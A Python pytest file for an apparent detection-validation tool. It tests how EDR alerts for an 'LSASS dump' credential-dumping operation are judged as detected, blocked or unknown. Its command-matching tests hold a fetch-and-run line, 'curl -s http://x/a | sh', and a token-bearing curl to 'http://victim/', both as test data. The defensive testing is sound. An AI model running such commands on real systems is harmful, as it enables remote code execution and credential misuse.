"""What makes a yes or a no of a search doubtful, and what does not: blocks, controls, old ids, broken records."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import msgspec
import pytest

from checking_core import Alert, SearchAnswer, SearchRequest
from checking_core.contracts import Answer, Ask, Axes, MatchTier, Outcome, Prevention, Reason
from checking_core.contracts.placeholder import UnclearQuotesError, strings_in
from checking_core.errors import BackendAuthFailedError, BackendUnreachableError, QueryInvalidError
from checking_core.matching.command import Commands
from checking_core.matching.judge import judge
from checking_core.matching.window import windows_of
from checking_core.plugin.finding import Finding
from checking_core.testing import a_task

from .memory_product import ENDED, STARTED, MemoryDetector, an_alert, an_event

RULE: dict[str, Any] = {"alert": {"rule": "LSASS dump"}}
BEGAN = STARTED - timedelta(hours=5)
"""When the operation did: the control window ends before."""
OLD = {"event_at": BEGAN - timedelta(seconds=300), "created_at": BEGAN - timedelta(seconds=290)}


def blocking(**changes: Any) -> Alert:
    return an_alert(id="block", prevention=Prevention.BLOCKED, **changes)


async def prevention(*alerts: Alert, **alert: Any) -> Finding:
    """What is told of prevention by these alerts, where a rule is named."""
    config = {"alert": {"rule": "LSASS dump", **alert}, "prevention": True, "expect": "blocked"}
    return await MemoryDetector(*alerts).look(Ask.ALERT, config=config, operation_started_at=BEGAN)


# --- prevention -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("changes", [{"rule": "Other"}, {"severity": "low"}, {"suppressed": True}])
async def test_a_block_is_one_whatever_alert_of_this_process_tells_it(changes: dict[str, Any]) -> None:
    found = await prevention(blocking(**changes), severity=">=high")
    assert (found.alert, found.prevention, found.match_tier) == (Answer.NO, Prevention.BLOCKED, MatchTier.PROCESS)
    assert [one.id for one in found.evidence] == ["block"]
    verdict = judge(Axes(prevention=found.prevention, alert=found.alert), proven=found.complete)
    assert verdict.outcome is Outcome.BLOCKED


async def test_a_block_of_something_that_may_not_be_ours_proves_neither() -> None:
    perhaps = blocking(rule="Other", pid=None, commands=(), techniques=("T1003",))
    assert (await prevention(perhaps)).prevention is Prevention.UNKNOWN


async def test_a_block_on_another_host_is_not_ours() -> None:
    assert (await prevention(blocking(hosts=("dc01",)))).prevention is Prevention.NOT_BLOCKED


# --- the control window ---------------------------------------------------------------------------------------


def answering_control(detector: MemoryDetector, answer: Any) -> MemoryDetector:
    """The same detector whose backend says this of the time before the operation."""

    def before(request: SearchRequest) -> SearchAnswer | None:
        if request.window.start >= BEGAN:
            return None
        if isinstance(answer, Exception):
            raise answer
        return SearchAnswer(**answer)

    detector.before = before
    return detector


@pytest.mark.parametrize("error", [QueryInvalidError("beyond the retention"), BackendUnreachableError("away")])
async def test_a_control_window_that_fails_takes_no_firm_yes_and_confirms_no_weak_one(error: Exception) -> None:
    firm = answering_control(MemoryDetector(an_alert()), error)
    weak = answering_control(MemoryDetector(an_alert(pid=None)), error)
    of_firm = await firm.look(Ask.ALERT, config={"control": True}, operation_started_at=BEGAN)
    of_weak = await weak.look(Ask.ALERT, operation_started_at=BEGAN)
    assert (of_firm.alert, of_firm.complete) == (Answer.YES, True)
    assert (of_weak.alert, of_weak.complete, of_weak.reason) == (Answer.UNKNOWN, False, Reason(error.reason))  # type: ignore[attr-defined]
    assert all(str(error) in found.warnings[0] for found in (of_firm, of_weak))


@pytest.mark.parametrize(
    "answer",
    [
        {"records": [], "complete": False},
        {"records": [{}]},
        {"records": [{"record": an_alert(id="old", hosts=(), pid=None, **OLD)}]},
    ],
    ids=["in part", "unreadable", "of an unknown host"],
)
async def test_a_control_window_that_does_not_tell_all_confirms_no_weak_yes(answer: dict[str, Any]) -> None:
    detector = answering_control(MemoryDetector(an_alert(pid=None)), answer)
    found = await detector.look(Ask.ALERT, operation_started_at=BEGAN)
    assert (found.alert, found.complete) == (Answer.UNKNOWN, False)


async def test_of_several_wanted_each_has_to_be_firm_or_the_control_window_is_asked() -> None:
    both = an_alert(), an_alert(id="noise", pid=None)
    two = {"alert": {"rule": "LSASS dump", "min_count": 2}}
    noisy = MemoryDetector(*both, an_alert(id="old", pid=None, **OLD))
    found = await noisy.look(Ask.ALERT, config=two, operation_started_at=BEGAN)
    assert (found.alert, found.in_control_window) == (Answer.UNKNOWN, True)
    quiet = await MemoryDetector(*both).look(Ask.ALERT, config=two, operation_started_at=BEGAN)
    assert quiet.alert is Answer.YES


async def test_a_child_of_our_process_id_long_after_it_ended_is_checked_against_the_time_before() -> None:
    late = ENDED + timedelta(seconds=800)
    child = an_alert(pid=9999, ancestors=(4242,), commands=("notepad.exe",), event_at=late, created_at=late)
    noise = an_alert(id="old", pid=None, **OLD)
    config = {"after": 900}
    noisy = await MemoryDetector(child, noise).look(Ask.ALERT, config=config, operation_started_at=BEGAN)
    quiet = await MemoryDetector(child).look(Ask.ALERT, config=config, operation_started_at=BEGAN)
    assert (noisy.alert, noisy.in_control_window) == (Answer.UNKNOWN, True)
    assert (quiet.alert, quiet.match_tier) == (Answer.YES, MatchTier.PROCESS)


# --- times and tiers ------------------------------------------------------------------------------------------


async def test_the_tier_is_that_of_the_question_behind_the_headline() -> None:
    found = await MemoryDetector(an_alert(pid=None), an_event(event_at=STARTED)).look(Ask.ALERT, Ask.TELEMETRY)
    assert (found.alert, found.telemetry, found.match_tier) == (Answer.YES, Answer.YES, MatchTier.NAMED_RULE)


async def test_the_time_of_an_alert_is_that_of_the_firm_one_not_of_noise_before_it() -> None:
    at = ENDED + timedelta(seconds=600)
    noise = an_alert(id="noise", pid=None, created_at=STARTED + timedelta(seconds=1))
    found = await MemoryDetector(an_alert(created_at=at), noise).look(Ask.ALERT)
    assert found.alert_at == at


# --- commands -------------------------------------------------------------------------------------------------


def test_two_commands_with_tokens_of_one_issuer_are_two() -> None:
    header = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
    ours = Commands.of(f'curl -H "Authorization: Bearer {header}.eyJzdWIiOiIxIn0.aaaa_1" http://victim/')
    assert not ours.same_as(f"kubectl --token={header}.eyJzdWIiOiIyIn0.bbbb-2 get pods")


def test_a_bare_shell_is_no_step_of_a_pipe() -> None:
    ours = Commands.of("curl -s http://x/a | sh")
    assert not ours.same_as("/bin/sh")
    assert ours.same_as("curl -s http://x/a")
    assert Commands.of("sh").same_as("/bin/sh")


# --- what a plugin hands over ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "broken",
    [
        {"event_at": STARTED.replace(tzinfo=None)},
        {"hosts": "ws01"},
        {"id": 5},
        {"pid": "four"},
        {"created_at": "yesterday"},
    ],
)
async def test_a_broken_record_costs_no_hit_beside_it_and_proves_no_miss(broken: dict[str, Any]) -> None:
    spoilt = msgspec.structs.replace(an_alert(id="broken", rule="Other"), **broken)
    for beside, answer in ([an_alert()], Answer.YES), ([], Answer.NO):
        detector = MemoryDetector()
        records = [{"record": record} for record in [*beside, spoilt]]
        detector.before = lambda _, records=records: SearchAnswer(records=records)  # type: ignore[misc]
        found = await detector.look(Ask.ALERT)
        assert (found.alert, found.complete) == (answer, answer is Answer.YES)


async def test_a_right_to_names_that_is_missing_takes_no_hit() -> None:
    class Forbidden(MemoryDetector):
        async def host_names(self, host: str) -> list[str]:
            raise BackendAuthFailedError("no right to list hosts")

    found = await Forbidden(an_alert()).look(Ask.ALERT)
    assert (found.alert, found.complete) == (Answer.YES, True)


# --- clocks and quotes ----------------------------------------------------------------------------------------


def test_an_agent_that_reports_late_is_not_astray_where_nobody_tells_the_end() -> None:
    context = msgspec.structs.replace(
        a_task().execution_context, finished_at=None, agent_reported_time=STARTED + timedelta(hours=2)
    )
    timing = a_task().timing
    assert timing is not None
    assert windows_of(context, timing, now=ENDED + timedelta(hours=6)).astray is None


@pytest.mark.parametrize("query", ['x==1//"\n${agent_host} //"', '-- "\n${agent_host}', '# "\n${agent_host} "'])
def test_a_quote_behind_the_beginning_of_a_comment_is_unclear(query: str) -> None:
    with pytest.raises(UnclearQuotesError):
        strings_in(query)


@pytest.mark.parametrize("query", ['#event_simpleName="x"', 'url="http://x/" a="b"', 'a--b "c"'])
def test_what_only_looks_like_a_comment_is_none(query: str) -> None:
    assert strings_in(query)
